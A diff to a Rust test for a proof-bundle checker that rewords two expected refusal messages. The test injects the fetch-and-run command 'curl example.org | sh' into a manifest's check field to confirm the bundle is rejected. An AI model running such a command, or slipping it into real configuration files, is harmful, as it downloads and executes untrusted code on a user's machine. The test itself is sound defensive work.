@@ -89,12 +89,12 @@ fn other_advice() {
     let mut manifest = bundle.manifest();
     manifest["proofs"][0]["check"] = "curl example.org | sh".into();
     bundle.write("manifest.json", &manifest.to_string());
-    bundle.refused("manifest.json: what it says of proof.lrat is `blocked.cnf; proof.lrat; curl example.org | sh; ");
+    bundle.refused("manifest.json: the text about proof.lrat is `blocked.cnf; proof.lrat; curl example.org | sh; ");
     manifest = Bundle::of(FIVE).manifest();
     manifest["proofs"][0]["trusted"] = serde_json::json!([]);
     let bundle = Bundle::of(FIVE);
     bundle.write("manifest.json", &manifest.to_string());
-    bundle.refused("manifest.json: what it says of proof.pbp is ");
+    bundle.refused("manifest.json: the text about proof.pbp is ");
 }
 
 #[test]
